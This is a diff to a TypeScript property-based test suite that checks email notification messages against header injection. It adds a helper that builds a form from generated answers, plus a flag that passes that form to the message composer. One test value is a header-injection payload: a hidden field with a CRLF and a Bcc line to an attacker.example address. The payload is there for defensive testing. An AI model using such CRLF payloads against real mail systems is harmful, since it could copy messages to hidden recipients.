@@ -9,6 +9,7 @@ import nodemailer from 'nodemailer';
 import { describe, expect } from 'vitest';
 import { STORED_COMPONENT_TYPES } from '../../src/components/catalogue.ts';
 import type { ResponseAnswer } from '../../src/db/json-columns.ts';
+import type { FormTexts } from '../../src/forms/translations.ts';
 import { composeMessage } from '../../src/notifications/message.ts';
 import { hostileString } from '../support/hostile-checks.ts';
 
@@ -66,6 +67,26 @@ const answer: fc.Arbitrary<ResponseAnswer> = fc
     response: { ...fields, componentShapeVersion: '2.0', type, headline },
   }));
 
+/** A form whose components are the answers' (their ids, keys and types), their texts and options the answers' own. */
+const formOf = (data: ResponseAnswer[]): FormTexts => ({
+  name: 'Demo',
+  locale: 'en',
+  languages: null,
+  texts: null,
+  steps: [
+    {
+      id: 'step1',
+      name: 'Step',
+      components: data.map((answer) => ({
+        id: answer.questionId,
+        ...(answer.key === undefined ? {} : { key: answer.key }),
+        type: answer.response.type,
+        content: { question: answer.response.headline, options: Object.values(answer.response).filter((value) => typeof value === 'string'), message: answer.response.headline },
+      })),
+    },
+  ],
+});
+
 const HEADERS = ['content-type', 'from', 'to', 'subject', 'message-id', 'date', 'mime-version', 'auto-submitted', 'x-auto-response-suppress'];
 const writer = nodemailer.createTransport({ streamTransport: true, buffer: true, newline: 'windows' });
 
@@ -77,9 +98,10 @@ describe('header injection', () => {
       fc.constantFrom('response.finished', 'response.invalid'),
       fc.boolean(),
       fc.option(fc.constantFrom('Thanks, {{question.note}}', '{{question.contact.fullName | "friend"}}', '{{hidden.source}} {{variable.score}}'), { nil: undefined }),
+      fc.boolean(),
     ],
     { numRuns: 150 },
-  )('every answer field of every type stays out of the headers', async (data, kind, trigger, includeAnswers, subject) => {
+  )('every answer field of every type stays out of the headers', async (data, kind, trigger, includeAnswers, subject, known) => {
     const options = composeMessage({
       deliveryId: 'ntf_property0000000000000',
       kind,
@@ -90,6 +112,8 @@ describe('header injection', () => {
       form: { id: 'form1', name: 'Demo', locale: 'en' },
       response: { id: 'resp1', updatedAt: new Date(0), data, meta: { hiddenFields: { source: `x\r\nBcc: ${MARK}@attacker.example` } } },
       rule: { includeAnswers, subject, body: 'Thanks {{question.note}}' },
+      // The form the answers were given to, its questions and options holding the answers' texts: the answers as the respondent saw them.
+      shown: known ? { form: formOf(data), language: 'en', written: true } : undefined,
     });
     const { message } = (await writer.sendMail(options)) as { message: Buffer };
     const raw = message.toString('utf8');
